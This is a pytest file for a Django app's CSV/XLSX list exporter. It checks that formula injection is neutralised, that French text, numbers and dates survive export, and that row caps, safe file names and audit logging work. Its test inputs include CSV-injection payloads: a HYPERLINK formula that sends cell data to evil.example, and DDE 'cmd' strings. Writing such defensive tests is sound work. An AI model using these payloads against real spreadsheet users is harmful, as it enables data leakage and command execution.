"""The list exporter (jpt.core.exports): formula injection neutralised in CSV and XLSX (read
back with the csv module and openpyxl), French text intact, numbers and dates kept as such, the
row cap said in the file, safe file names, and the audit entry."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from types import SimpleNamespace

import pytest
from django.http import QueryDict
from openpyxl import load_workbook

from jpt.audit.choices import AuditAction
from jpt.audit.models import AuditEntry
from jpt.core.exports import (
    CSV,
    XLSX,
    audited_filters,
    build_export,
    export_filename,
    export_response,
    neutralise,
    record_export,
)
from jpt.places.models import Province

# What a spreadsheet would evaluate (or skip to a formula from): OWASP "CSV Injection".
DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    "+243 990 000 000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=cmd|' /C calc'!A0",
    "\n=1+1",
    "\x00=1+1",  # a control character a worksheet cannot hold, hiding the "="
]
FRENCH = "Forces Armées de la République Démocratique du Congo « FARDC », é, è, ç, ô"
TEXT = [("Text", "text")]


def rows_of(*texts):
    return [SimpleNamespace(text=text) for text in texts]


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, for Excel"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_xlsx(content: bytes):
    return load_workbook(io.BytesIO(content)).worksheets[0]


def test_neutralise_prefixes_a_quote_before_a_formula_and_leaves_text_alone():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("+1") == "'+1"
    assert neutralise("-1") == "'-1"
    assert neutralise("@A1") == "'@A1"
    assert neutralise("\tx") == "'\tx"
    assert neutralise("\rx") == "'\rx"
    assert neutralise("\x00=1") == "'=1"
    assert neutralise("Ntoto market, 1 = 1") == "Ntoto market, 1 = 1"
    assert neutralise(FRENCH) == FRENCH
    assert neutralise("") == ""


def test_csv_neutralises_every_formula_start():
    rows = read_csv(build_export(TEXT, rows_of(*DANGEROUS), CSV).content)
    assert rows[0] == ["Text"]
    values = [row[0] for row in rows[1:]]
    assert len(values) == len(DANGEROUS)
    for value in values:
        assert value.startswith("'"), repr(value)
        assert value[1:2] in {"=", "+", "-", "@", "\t", "\r", "\n"}
    assert values[0] == "'=1+1"
    assert values[-1] == "'=1+1"  # the NUL dropped, then neutralised


def test_csv_quotes_every_text_field_and_leaves_numbers_bare():
    content = build_export(
        [("Text", "text"), ("Count", "count")],
        [SimpleNamespace(text="a;=1+1,b", count=7)],
        CSV,
    ).content.decode("utf-8-sig")
    assert content.splitlines()[1] == '"a;=1+1,b",7'


def test_xlsx_holds_no_formula_and_neutralises_every_formula_start():
    sheet = read_xlsx(build_export(TEXT, rows_of(*DANGEROUS, "#N/A"), XLSX).content)
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert len(cells) == len(DANGEROUS) + 1
    for cell in sheet.iter_rows():
        for item in cell:
            assert item.data_type != "f", f"{item.coordinate} is a formula: {item.value!r}"
    for cell in cells[:-1]:
        assert cell.data_type == "s"
        assert cell.value.startswith("'"), repr(cell.value)
    # An error code typed as text stays text (openpyxl would store an error cell).
    assert cells[-1].data_type == "s"
    assert cells[-1].value == "#N/A"


def test_headers_are_neutralised_too():
    export = build_export([("=HEADER()", "text")], rows_of("x"), CSV)
    assert read_csv(export.content)[0] == ["'=HEADER()"]


def test_french_text_is_intact_in_both_formats():
    rows = rows_of(FRENCH, "Société civile de Walikale – « Mayi-Mayi »")
    assert [row[0] for row in read_csv(build_export(TEXT, rows, CSV).content)[1:]] == [
        FRENCH,
        "Société civile de Walikale – « Mayi-Mayi »",
    ]
    sheet = read_xlsx(build_export(TEXT, rows, XLSX, title="Requêtes").content)
    assert sheet.title == "Requêtes"
    assert [row[0].value for row in sheet.iter_rows(min_row=2)][0] == FRENCH


def test_numbers_dates_and_yes_no_keep_their_kind(settings):
    settings.TIME_ZONE = "Africa/Lubumbashi"  # UTC+2
    row = SimpleNamespace(
        count=12,
        negative=-3,
        day=date(2026, 3, 1),
        moment=datetime(2026, 3, 1, 4, 30, tzinfo=UTC),
        flag=True,
        nothing=None,
    )
    columns = [
        ("Count", "count"),
        ("Negative", "negative"),
        ("Day", "day"),
        ("Moment", "moment"),
        ("Flag", "flag"),
        ("Nothing", "nothing"),
    ]
    assert read_csv(build_export(columns, [row], CSV).content)[1] == [
        "12",
        "-3",
        "2026-03-01",
        "2026-03-01 06:30",  # in the site's time zone
        "Yes",
        "",
    ]
    cells = next(read_xlsx(build_export(columns, [row], XLSX).content).iter_rows(min_row=2))
    assert cells[0].value == 12 and cells[0].data_type == "n"
    assert cells[1].value == -3 and cells[1].data_type == "n"  # a number, never neutralised
    assert cells[2].is_date and cells[2].value.date() == date(2026, 3, 1)
    assert cells[3].is_date and cells[3].value == datetime(2026, 3, 1, 6, 30)
    assert cells[4].value == "Yes"
    assert cells[5].value is None


def test_accessors_follow_paths_call_methods_and_join_several_values():
    row = SimpleNamespace(
        place=SimpleNamespace(name="Ntoto", territory=None),
        label=lambda: "=called",
        places=["Ntoto", "Otobora"],
    )
    columns = [
        ("Place", "place.name"),
        ("Territory", "place.territory.name"),
        ("Label", "label"),
        ("Places", "places"),
        ("Computed", lambda r: r.place.name.upper()),
    ]
    assert read_csv(build_export(columns, [row], CSV).content)[1] == [
        "Ntoto",
        "",
        "'=called",
        "Ntoto, Otobora",
        "NTOTO",
    ]


def test_the_cap_cuts_the_list_and_the_file_says_so():
    export = build_export(TEXT, rows_of("a", "b", "c", "d", "e"), CSV, cap=3)
    assert (export.rows, export.capped) == (3, True)
    rows = read_csv(export.content)
    assert [row[0] for row in rows[1:4]] == ["a", "b", "c"]
    assert len(rows) == 5
    assert "first 3 rows" in rows[4][0]

    sheet = read_xlsx(build_export(TEXT, rows_of("a", "b", "c", "d"), XLSX, cap=3).content)
    values = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert values[:3] == ["a", "b", "c"]
    assert "first 3 rows" in values[3]

    exact = build_export(TEXT, rows_of("a", "b", "c"), CSV, cap=3)
    assert (exact.rows, exact.capped) == (3, False)
    assert len(read_csv(exact.content)) == 4


def test_the_cap_is_a_setting(settings):
    settings.JPT_EXPORT_MAX_ROWS = 2
    export = build_export(TEXT, rows_of("a", "b", "c"), XLSX)
    assert (export.rows, export.capped) == (2, True)


@pytest.mark.django_db
def test_a_queryset_is_read_up_to_the_cap_in_one_query(django_assert_num_queries):
    for index in range(5):
        Province.objects.create(name=f"=Province {index}", pcode=f"CD9{index}")
    with django_assert_num_queries(1):
        export = build_export([("Name", "name")], Province.objects.order_by("pcode"), CSV, cap=4)
    assert (export.rows, export.capped) == (4, True)
    assert read_csv(export.content)[1] == ["'=Province 0"]


def test_file_names_are_ascii_and_dated():
    assert export_filename("Requêtes / mine", CSV, day=date(2026, 3, 1)) == (
        "jpt-requetes-mine-2026-03-01.csv"
    )
    assert export_filename('../"etc"\r\n', XLSX, day=date(2026, 3, 1)) == (
        "jpt-etc-2026-03-01.xlsx"
    )
    assert export_filename("", CSV, day=date(2026, 3, 1)) == "jpt-export-2026-03-01.csv"


def test_the_response_is_a_download_no_cache_keeps():
    export = build_export(TEXT, rows_of("a"), XLSX)
    response = export_response(export, "jpt-requests-2026-03-01.xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"] == (
        'attachment; filename="jpt-requests-2026-03-01.xlsx"'
    )
    assert response["Cache-Control"] == "no-store, private"
    assert response["X-Export-Rows"] == "1"


def test_unknown_formats_are_refused():
    with pytest.raises(ValueError, match="Unknown export format"):
        build_export(TEXT, [], "pdf")


def test_the_audited_filters_are_the_query_string_without_paging_and_export():
    query = QueryDict("status=submitted&province=3&q=&export=csv&page=2&trigger=a&trigger=b")
    assert audited_filters(query, ignore={"export", "page"}) == {
        "province": "3",
        "status": "submitted",
        "trigger": ["a", "b"],
    }
    long = QueryDict(f"q={'x' * 500}")
    assert len(audited_filters(long)["q"]) == 200


@pytest.mark.django_db
def test_an_export_writes_one_audit_entry_on_the_exporting_user(make_user):
    user = make_user("exporter")
    export = build_export(TEXT, rows_of("a", "b"), CSV)
    record_export(
        user=user,
        list_name="missions:request_list",
        file_format=CSV,
        filters={"status": "submitted"},
        export=export,
    )
    entry = AuditEntry.objects.get()
    assert entry.action == AuditAction.LIST_EXPORTED
    assert entry.actor == user
    assert entry.target == user
    assert entry.details == {
        "list": "missions:request_list",
        "format": "csv",
        "filters": {"status": "submitted"},
        "rows": 2,
        "capped": False,
    }
